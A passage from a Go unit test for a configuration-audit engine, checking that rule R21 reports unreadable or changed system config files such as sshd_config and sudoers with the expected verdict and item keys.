			[]ConfigFile{f("etc/rsyslog.conf", "aa", "0640", 0), f("etc/ssh/sshd_config", "bb", "0600", 0), {Path: "etc/sudoers", Mode: "0440", Error: "permission denied"}},
			base, Pass, []string{"R21||unreadable:etc/sudoers"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := New(policy.Default(), pStart, pEnd)
			defer e.Release()
			if tt.set {
				e.SetConfigs(tt.cur, tt.prev, tt.prev != nil)
			}
			var res Result
			for _, r := range e.Results() {
				if r.ID == "R21" {
					res = r
				}
			}
			if res.Verdict != tt.verdict {
				t.Errorf("verdict = %s, want %s (%+v)", res.Verdict, tt.verdict, res.Items)
			}
			var keys []string
			for _, it := range res.Items {
				keys = append(keys, it.Key)
			}
			slices.Sort(keys)
			want := slices.Clone(tt.keys)
			slices.Sort(want)
			if !slices.Equal(keys, want) {
				t.Errorf("items = %v, want %v", keys, want)
			}
		})
	}
}
